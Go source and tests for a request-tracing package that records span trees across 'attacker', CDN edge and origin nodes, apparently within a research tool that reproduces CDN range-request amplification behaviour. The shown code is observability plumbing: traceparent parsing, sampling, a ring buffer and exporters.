				root := tr.StartRoot("attacker", "GET /x")
				child := tr.StartServer(root.Context(), "edge", "GET /x")
				child.Eventf(KindRequest, "g=%d i=%d", g, i)
				child.SetAttrInt("i", int64(i))
				child.End()
				root.End()
			}
		}(g)
	}
	wg.Wait()
	traces := tr.Traces()
	if len(traces) != 256 {
		t.Fatalf("ring holds %d, want 256", len(traces))
	}
	for _, tr := range traces {
		if len(tr.Spans) != 2 {
			t.Fatalf("trace %v has %d spans", tr.ID, len(tr.Spans))
		}
	}
}

func TestWaterfallAndTree(t *testing.T) {
	tr := New(Config{SampleEvery: 1})
	root := tr.StartRoot("attacker", "GET /video.bin")
	root.SetAttr("range", "bytes=0-0")
	edge := tr.StartServer(root.Context(), "cloudflare-edge", "GET /video.bin")
	edge.Event(KindRequest, "arrived")
	edge.Event(KindCacheMiss, "")
	fetch := edge.StartChild("fetch origin.internal:80")
	fetch.SetAttr("range", "(deleted)")
	fetch.End()
	edge.End()
	root.SetAttrInt("status", 206)
	root.End()

	got := tr.Traces()[0]
	tree := got.Tree()
	want := "attacker GET /video.bin range=bytes=0-0 status=206\n" +
		"  cloudflare-edge GET /video.bin (request cache-miss)\n" +
		"    cloudflare-edge fetch origin.internal:80 range=(deleted)\n"
	if tree != want {
		t.Errorf("Tree() =\n%s\nwant\n%s", tree, want)
	}
	wf := got.Waterfall()
	for _, frag := range []string{"trace ", "attacker", "cloudflare-edge", "range=(deleted)", "|"} {
		if !strings.Contains(wf, frag) {
			t.Errorf("waterfall missing %q:\n%s", frag, wf)
		}
	}
}

func TestChromeExportAndHandler(t *testing.T) {
	tr := New(Config{SampleEvery: 1})
	root := tr.StartRoot("attacker", "GET /x")
	edge := tr.StartServer(root.Context(), "edge", "GET /x")
	edge.Event(KindRequest, "arrived")
	edge.SetAttrInt("bytes_down", 42)
	edge.End()
	root.End()

	var b strings.Builder
	if err := WriteChromeTrace(&b, tr.Traces()); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []map[string]any `json:"traceEvents"`
	}
	if err := json.Unmarshal([]byte(b.String()), &doc); err != nil {
		t.Fatalf("chrome export is not valid JSON: %v", err)
	}
	var complete, instant, meta int
	for _, ev := range doc.TraceEvents {
		switch ev["ph"] {
		case "X":
			complete++
		case "i":
			instant++
		case "M":
			meta++
		}
	}
	if complete != 2 || instant != 1 || meta != 2 {
		t.Errorf("chrome events X=%d i=%d M=%d, want 2/1/2", complete, instant, meta)
	}

	srv := httptest.NewServer(tr.Handler())
	defer srv.Close()
	for _, tc := range []struct{ url, wantType, frag string }{
		{srv.URL, "application/json", "traceEvents"},
		{srv.URL + "?format=text", "text/plain; charset=utf-8", "attacker"},
	} {
		resp, err := srv.Client().Get(tc.url)
		if err != nil {
			t.Fatal(err)
		}
		body := make([]byte, 1<<16)
		n, _ := resp.Body.Read(body)
		resp.Body.Close()
		if ct := resp.Header.Get("Content-Type"); ct != tc.wantType {
			t.Errorf("%s content type = %q", tc.url, ct)
		}
		if !strings.Contains(string(body[:n]), tc.frag) {
			t.Errorf("%s body missing %q", tc.url, tc.frag)
		}
	}
}

func TestEventfFormatsOutsideLock(t *testing.T) {
	// Regression guard for the old Log.Add, which ran fmt.Sprintf while
	// holding the sink mutex: a formatting argument whose String method
	// re-enters the span must not deadlock.
	tr := New(Config{SampleEvery: 1})
	sp := tr.StartRoot("a", "x")
	sp.Eventf(KindRequest, "self=%v", reentrant{sp})
	sp.End()
	if got := tr.Traces()[0].Spans[0].Events[0].Detail; !strings.Contains(got, "self=0") {
		t.Errorf("detail = %q", got)
	}
}

type reentrant struct{ sp *Span }

func (r reentrant) String() string {
	// Touch the span's locked state while it is being formatted.
	return fmt.Sprintf("%d", r.sp.EventCount(""))
}
