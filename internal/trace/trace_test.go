package trace

import (
	"strings"
	"sync"
	"testing"
)

func TestAddAndEvents(t *testing.T) {
	l := New()
	l.Add("edge", KindRequest, "GET %s", "/f")
	l.Add("edge", KindCacheMiss, "/f")
	l.Add("origin", KindReply, "200")
	events := l.Events()
	if len(events) != 3 {
		t.Fatalf("%d events", len(events))
	}
	if events[0].Seq != 1 || events[2].Seq != 3 {
		t.Errorf("sequence numbers: %+v", events)
	}
	if events[0].Detail != "GET /f" {
		t.Errorf("detail = %q", events[0].Detail)
	}
	if l.Count(KindCacheMiss) != 1 || l.Count("") != 3 {
		t.Errorf("counts wrong")
	}
}

func TestStringRendering(t *testing.T) {
	l := New()
	l.Add("cloudflare-edge", KindUpstream, "-> origin:80")
	out := l.String()
	for _, want := range []string{"cloudflare-edge", "upstream", "-> origin:80"} {
		if !strings.Contains(out, want) {
			t.Errorf("output missing %q:\n%s", want, out)
		}
	}
}

func TestReset(t *testing.T) {
	l := New()
	l.Add("a", KindRequest, "x")
	l.Reset()
	if len(l.Events()) != 0 || l.Count("") != 0 {
		t.Error("Reset left events")
	}
	l.Add("a", KindRequest, "y")
	if l.Events()[0].Seq != 1 {
		t.Error("sequence not reset")
	}
}

func TestNilLogSafe(t *testing.T) {
	var l *Log
	l.Add("a", KindRequest, "x")
	l.Reset()
	if l.Events() != nil || l.Count("") != 0 || l.String() != "" {
		t.Error("nil log misbehaved")
	}
}

func TestConcurrentAdd(t *testing.T) {
	l := New()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				l.Add("n", KindRequest, "r")
			}
		}()
	}
	wg.Wait()
	events := l.Events()
	if len(events) != 800 {
		t.Fatalf("%d events", len(events))
	}
	seen := make(map[int]bool, 800)
	for _, e := range events {
		if seen[e.Seq] {
			t.Fatalf("duplicate seq %d", e.Seq)
		}
		seen[e.Seq] = true
	}
}
