// Package trace records structured per-request events as they flow
// through edges and origins, so a vendor behaviour can be inspected
// hop by hop (which Range arrived, what the cache said, what went
// upstream, how the reply was built) — the observability a downstream
// user needs when studying a new CDN configuration.
package trace

import (
	"fmt"
	"strings"
	"sync"
)

// Kind labels one event type.
type Kind string

// Event kinds emitted by the engines.
const (
	KindRequest   Kind = "request"    // request arrived at a node
	KindRejected  Kind = "rejected"   // request refused (limits, detector, overlap)
	KindCacheHit  Kind = "cache-hit"  // served from the edge cache
	KindCacheMiss Kind = "cache-miss" // cache consulted, no entry
	KindUpstream  Kind = "upstream"   // back-to-origin request issued
	KindRelay     Kind = "relay"      // upstream response relayed (Laziness)
	KindReply     Kind = "reply"      // reply built from an object
)

// Event is one recorded step.
type Event struct {
	Seq    int    // global order
	Node   string // emitting node ("cloudflare-edge", "origin", …)
	Kind   Kind
	Detail string
}

// String renders the event as one log line.
func (e Event) String() string {
	return fmt.Sprintf("%3d %-18s %-10s %s", e.Seq, e.Node, e.Kind, e.Detail)
}

// Log is a concurrency-safe event sink. The zero value is unusable;
// call New. A nil *Log is a valid no-op sink, so engines can trace
// unconditionally.
type Log struct {
	mu     sync.Mutex
	events []Event
	seq    int
}

// New returns an empty log.
func New() *Log { return &Log{} }

// Add records one event (no-op on a nil log).
func (l *Log) Add(node string, kind Kind, format string, args ...any) {
	if l == nil {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.seq++
	l.events = append(l.events, Event{
		Seq:    l.seq,
		Node:   node,
		Kind:   kind,
		Detail: fmt.Sprintf(format, args...),
	})
}

// Events returns a copy of the recorded events in order.
func (l *Log) Events() []Event {
	if l == nil {
		return nil
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	out := make([]Event, len(l.events))
	copy(out, l.events)
	return out
}

// Reset clears the log.
func (l *Log) Reset() {
	if l == nil {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.events = nil
	l.seq = 0
}

// String renders the whole log, one event per line.
func (l *Log) String() string {
	var b strings.Builder
	for _, e := range l.Events() {
		b.WriteString(e.String())
		b.WriteByte('\n')
	}
	return b.String()
}

// Count returns how many events of the kind were recorded (any kind
// when kind is empty).
func (l *Log) Count(kind Kind) int {
	if l == nil {
		return 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	if kind == "" {
		return len(l.events)
	}
	n := 0
	for _, e := range l.events {
		if e.Kind == kind {
			n++
		}
	}
	return n
}
