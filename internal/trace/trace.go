// Package trace records causal, per-request span trees as requests flow
// attacker → edge → origin. Each hop opens a span carrying monotonic
// start/end offsets and typed attributes (vendor, range header, status,
// wire bytes per segment); the narrative steps the old flat log captured
// (which Range arrived, what the cache said, what went upstream, how the
// reply was built) are span events on the owning span. Context crosses
// hops in a traceparent-style header, so one SBR/OBR request yields a
// single connected tree spanning all three nodes — the per-request view
// aggregate counters cannot give.
//
// A nil *Tracer and a nil *Span are valid no-op sinks, and the nil paths
// are allocation-free, so engines trace unconditionally even in floods.
// Head sampling (1/N, deterministic by root sequence) keeps enabled
// flood runs affordable; completed traces land in a bounded ring buffer
// drained by the exporters in export.go.
package trace

import (
	"fmt"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/httpwire"
)

// Kind labels one span-event type. These are the narrative steps the
// engines emit; they attach to the span of the node that observed them.
type Kind string

// Event kinds emitted by the engines.
const (
	KindRequest   Kind = "request"    // request arrived at a node
	KindRejected  Kind = "rejected"   // request refused (limits, detector, overlap)
	KindCacheHit  Kind = "cache-hit"  // served from the edge cache
	KindCacheMiss Kind = "cache-miss" // cache consulted, no entry
	KindUpstream  Kind = "upstream"   // back-to-origin request issued
	KindRelay     Kind = "relay"      // upstream response relayed (Laziness)
	KindReply     Kind = "reply"      // reply built from an object
	KindPool      Kind = "pool"       // upstream connection pool activity (reuse, redial, evict)
	KindCollapse  Kind = "collapse"   // miss collapsed onto another request's in-flight fetch
)

// TraceID identifies one request tree. Zero is invalid.
type TraceID uint64

// String renders the id as the 32-hex-digit traceparent field.
func (id TraceID) String() string { return fmt.Sprintf("%032x", uint64(id)) }

// SpanID identifies one span within a trace. Zero is invalid.
type SpanID uint64

// String renders the id as the 16-hex-digit traceparent field.
func (id SpanID) String() string { return fmt.Sprintf("%016x", uint64(id)) }

// Header is the propagation header name, following the W3C Trace
// Context shape: "00-<32 hex trace id>-<16 hex span id>-<2 hex flags>".
const Header = "traceparent"

// headerLen is the exact serialized value length: version (2) + trace
// id (32) + span id (16) + flags (2) + three dashes.
const headerLen = 2 + 1 + 32 + 1 + 16 + 1 + 2

// SpanContext is the propagated identity of a span: enough to parent a
// remote child and to carry the head-sampling decision downstream.
type SpanContext struct {
	Trace   TraceID
	Span    SpanID
	Sampled bool
}

// Valid reports whether the context identifies a real span.
func (sc SpanContext) Valid() bool { return sc.Trace != 0 && sc.Span != 0 }

// HeaderValue renders the context as a traceparent header value.
func (sc SpanContext) HeaderValue() string {
	flags := "00"
	if sc.Sampled {
		flags = "01"
	}
	return "00-" + sc.Trace.String() + "-" + sc.Span.String() + "-" + flags
}

// ParseHeader parses a traceparent value. Trace ids wider than 64 bits
// keep their low 64 bits (this tracer never emits wider ids).
func ParseHeader(v string) (SpanContext, bool) {
	if len(v) != headerLen || v[2] != '-' || v[35] != '-' || v[52] != '-' {
		return SpanContext{}, false
	}
	if _, err := strconv.ParseUint(v[3:19], 16, 64); err != nil {
		return SpanContext{}, false // high trace-id half must still be hex
	}
	tid, err := strconv.ParseUint(v[19:35], 16, 64)
	if err != nil {
		return SpanContext{}, false
	}
	sid, err := strconv.ParseUint(v[36:52], 16, 64)
	if err != nil {
		return SpanContext{}, false
	}
	flags, err := strconv.ParseUint(v[53:55], 16, 8)
	if err != nil {
		return SpanContext{}, false
	}
	sc := SpanContext{Trace: TraceID(tid), Span: SpanID(sid), Sampled: flags&1 != 0}
	if !sc.Valid() {
		return SpanContext{}, false
	}
	return sc, true
}

// Extract returns the span context carried by a request's headers, if
// any.
func Extract(hs httpwire.Headers) SpanContext {
	v, ok := hs.Get(Header)
	if !ok {
		return SpanContext{}
	}
	sc, _ := ParseHeader(v)
	return sc
}

// Inject stamps sp's context into the headers, replacing any inbound
// traceparent. A nil (non-recording) span only strips the inbound
// header, so an untraced hop never forwards a stale context.
func Inject(sp *Span, hs *httpwire.Headers) {
	if sp == nil {
		hs.Del(Header)
		return
	}
	hs.Set(Header, sp.Context().HeaderValue())
}

// Attr is one typed span attribute: a string or an int64.
type Attr struct {
	Key   string
	Str   string
	Int   int64
	IsInt bool
}

// Value renders the attribute value as a string.
func (a Attr) Value() string {
	if a.IsInt {
		return strconv.FormatInt(a.Int, 10)
	}
	return a.Str
}

// Event is one narrative step recorded on a span, at a monotonic offset
// from the tracer's epoch.
type Event struct {
	Offset time.Duration
	Kind   Kind
	Detail string
}

// Span is one node's share of a request tree. Identity fields are set
// at start and immutable; End, Attrs and Events are written while the
// span is open and must only be read after the owning trace completes
// (i.e. once it is returned by Tracer.Traces). A nil *Span is a valid
// no-op sink and every method on it is allocation-free.
type Span struct {
	Trace  TraceID
	ID     SpanID
	Parent SpanID // zero for a root or remote-parented top span
	Node   string // emitting node ("attacker", "cloudflare-edge", "origin")
	Name   string
	Start  time.Duration // offset from the tracer epoch
	Finish time.Duration // set by End
	Attrs  []Attr
	Events []Event

	tracer *Tracer
	mu     sync.Mutex
	ended  bool
}

// Recording reports whether the span is live and collecting data.
func (s *Span) Recording() bool { return s != nil }

// Context returns the span's propagated identity (always sampled: only
// sampled spans exist).
func (s *Span) Context() SpanContext {
	if s == nil {
		return SpanContext{}
	}
	return SpanContext{Trace: s.Trace, Span: s.ID, Sampled: true}
}

// TraceIDString returns the 32-hex trace id, or "" on a nil span. Used
// to tag metric increments with the active trace (exemplar-lite).
func (s *Span) TraceIDString() string {
	if s == nil {
		return ""
	}
	return s.Trace.String()
}

// StartChild opens a child span on the same node (e.g. an edge's
// back-to-origin fetch inside its server span).
func (s *Span) StartChild(name string) *Span {
	if s == nil {
		return nil
	}
	return s.tracer.start(s.Trace, s.ID, s.Node, name)
}

// SetAttr records a string attribute.
func (s *Span) SetAttr(key, value string) {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.Attrs = append(s.Attrs, Attr{Key: key, Str: value})
	s.mu.Unlock()
}

// SetAttrInt records an integer attribute.
func (s *Span) SetAttrInt(key string, value int64) {
	if s == nil {
		return
	}
	s.mu.Lock()
	s.Attrs = append(s.Attrs, Attr{Key: key, Int: value, IsInt: true})
	s.mu.Unlock()
}

// Event records a pre-formatted narrative step. The nil path does no
// formatting and no allocation, so hot paths call it unconditionally.
func (s *Span) Event(kind Kind, detail string) {
	if s == nil {
		return
	}
	s.addEvent(kind, detail)
}

// Eventf records a formatted step. Formatting happens only on a
// recording span, and always before the span lock is taken.
func (s *Span) Eventf(kind Kind, format string, args ...any) {
	if s == nil {
		return
	}
	detail := format
	if len(args) > 0 {
		detail = fmt.Sprintf(format, args...)
	}
	s.addEvent(kind, detail)
}

func (s *Span) addEvent(kind Kind, detail string) {
	off := s.tracer.now()
	s.mu.Lock()
	s.Events = append(s.Events, Event{Offset: off, Kind: kind, Detail: detail})
	s.mu.Unlock()
}

// EventCount returns how many events of the kind were recorded (any
// kind when kind is empty). Safe on a nil span.
func (s *Span) EventCount(kind Kind) int {
	if s == nil {
		return 0
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if kind == "" {
		return len(s.Events)
	}
	n := 0
	for _, e := range s.Events {
		if e.Kind == kind {
			n++
		}
	}
	return n
}

// Attr returns the value of the first attribute named key ("" when
// absent). Safe on a nil span.
func (s *Span) Attr(key string) string {
	if s == nil {
		return ""
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, a := range s.Attrs {
		if a.Key == key {
			return a.Value()
		}
	}
	return ""
}

// AttrInt returns the summed value of integer attributes named key.
func (s *Span) AttrInt(key string) int64 {
	if s == nil {
		return 0
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	var n int64
	for _, a := range s.Attrs {
		if a.Key == key && a.IsInt {
			n += a.Int
		}
	}
	return n
}

// End closes the span. Idempotent; the first call stamps the end offset
// and, once every span of the trace has ended, moves the completed
// trace into the tracer's ring buffer. Engines end a span before
// writing the response bytes it describes, so a parent reading that
// response always ends after all its children — the open-span count
// reaching zero therefore coincides with the root's End.
func (s *Span) End() {
	if s == nil {
		return
	}
	s.mu.Lock()
	if s.ended {
		s.mu.Unlock()
		return
	}
	s.ended = true
	s.Finish = s.tracer.now()
	s.mu.Unlock()
	s.tracer.finish(s)
}

// Trace is one completed request tree, spans in start order.
type Trace struct {
	ID    TraceID
	Spans []*Span
}

// Root returns the first span with no in-trace parent.
func (tr *Trace) Root() *Span {
	ids := make(map[SpanID]bool, len(tr.Spans))
	for _, s := range tr.Spans {
		ids[s.ID] = true
	}
	for _, s := range tr.Spans {
		if s.Parent == 0 || !ids[s.Parent] {
			return s
		}
	}
	return nil
}

// Duration returns the whole tree's wall time (root start to latest
// end).
func (tr *Trace) Duration() time.Duration {
	if len(tr.Spans) == 0 {
		return 0
	}
	start := tr.Spans[0].Start
	end := start
	for _, s := range tr.Spans {
		if s.Start < start {
			start = s.Start
		}
		if s.Finish > end {
			end = s.Finish
		}
	}
	return end - start
}

// Config sets a tracer's sampling and retention.
type Config struct {
	// SampleEvery enables the tracer: 1 records every root, N>1
	// records one root in N (deterministic by root sequence), <=0
	// disables the tracer entirely (the default).
	SampleEvery int
	// Capacity bounds the completed-trace ring buffer (default 64).
	Capacity int
}

// DefaultCapacity is the completed-trace ring size when Config.Capacity
// is zero.
const DefaultCapacity = 64

// Tracer samples request roots, assembles spans into traces, and keeps
// the most recent completed traces in a bounded ring. A nil *Tracer is
// a valid disabled tracer.
type Tracer struct {
	sampleEvery atomic.Int64
	ids         atomic.Uint64 // span/trace id source
	roots       atomic.Uint64 // root sequence for 1/N sampling
	epoch       time.Time

	mu       sync.Mutex
	capacity int
	active   map[TraceID]*activeTrace
	ring     []*Trace
	next     int // ring write index once full
}

type activeTrace struct {
	spans []*Span
	open  int
}

// New returns a tracer with the given config. The zero Config yields a
// disabled tracer (every Start* returns nil) that can be enabled later
// with Configure.
func New(cfg Config) *Tracer {
	t := &Tracer{epoch: time.Now()}
	t.applyLocked(cfg)
	return t
}

// Default is the process-wide tracer, disabled until configured (so
// library users and benchmarks pay nothing unless they opt in). The
// cmd/ tools configure it from their -trace flags.
var Default = New(Config{})

// Configure replaces the tracer's sampling/retention settings and
// clears both the active set and the completed ring.
func (t *Tracer) Configure(cfg Config) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.applyLocked(cfg)
}

func (t *Tracer) applyLocked(cfg Config) {
	if cfg.Capacity <= 0 {
		cfg.Capacity = DefaultCapacity
	}
	t.sampleEvery.Store(int64(cfg.SampleEvery))
	t.capacity = cfg.Capacity
	t.active = make(map[TraceID]*activeTrace)
	t.ring = nil
	t.next = 0
}

// Enabled reports whether the tracer records anything at all.
func (t *Tracer) Enabled() bool {
	return t != nil && t.sampleEvery.Load() > 0
}

func (t *Tracer) now() time.Duration { return time.Since(t.epoch) }

// StartRoot opens the root span of a new trace, subject to head
// sampling: with SampleEvery=N, every Nth root (by arrival sequence) is
// recorded and the rest return nil. The sequence only advances while
// the tracer is enabled, so sampling stays deterministic per run.
func (t *Tracer) StartRoot(node, name string) *Span {
	if t == nil {
		return nil
	}
	n := t.sampleEvery.Load()
	if n <= 0 {
		return nil
	}
	seq := t.roots.Add(1)
	if (seq-1)%uint64(n) != 0 {
		return nil
	}
	id := TraceID(t.ids.Add(1))
	return t.start(id, 0, node, name)
}

// StartServer opens the serving span for an inbound request. With a
// valid sampled remote context the span joins that trace as a child;
// otherwise the request becomes its own sampled root (local traffic
// with no caller context, e.g. a probe hitting a daemon directly).
func (t *Tracer) StartServer(sc SpanContext, node, name string) *Span {
	if !t.Enabled() {
		return nil
	}
	if sc.Valid() && sc.Sampled {
		return t.start(sc.Trace, sc.Span, node, name)
	}
	return t.StartRoot(node, name)
}

// start registers a span on an existing or new trace.
func (t *Tracer) start(trace TraceID, parent SpanID, node, name string) *Span {
	s := &Span{
		Trace:  trace,
		ID:     SpanID(t.ids.Add(1)),
		Parent: parent,
		Node:   node,
		Name:   name,
		Start:  t.now(),
		tracer: t,
	}
	t.mu.Lock()
	at := t.active[trace]
	if at == nil {
		at = &activeTrace{}
		t.active[trace] = at
	}
	at.spans = append(at.spans, s)
	at.open++
	t.mu.Unlock()
	return s
}

// finish is called by Span.End exactly once per span.
func (t *Tracer) finish(s *Span) {
	t.mu.Lock()
	at := t.active[s.Trace]
	if at == nil {
		t.mu.Unlock() // Configure ran mid-trace; drop the orphan
		return
	}
	at.open--
	if at.open > 0 {
		t.mu.Unlock()
		return
	}
	delete(t.active, s.Trace)
	tr := &Trace{ID: s.Trace, Spans: at.spans}
	if len(t.ring) < t.capacity {
		t.ring = append(t.ring, tr)
	} else {
		t.ring[t.next] = tr
		t.next = (t.next + 1) % t.capacity
	}
	t.mu.Unlock()
}

// Traces returns the completed traces, oldest first.
func (t *Tracer) Traces() []*Trace {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]*Trace, 0, len(t.ring))
	out = append(out, t.ring[t.next:]...)
	out = append(out, t.ring[:t.next]...)
	return out
}

// Reset drops all completed and in-flight traces and restarts the
// sampling sequence, keeping the current config.
func (t *Tracer) Reset() {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.active = make(map[TraceID]*activeTrace)
	t.ring = nil
	t.next = 0
	t.roots.Store(0)
}
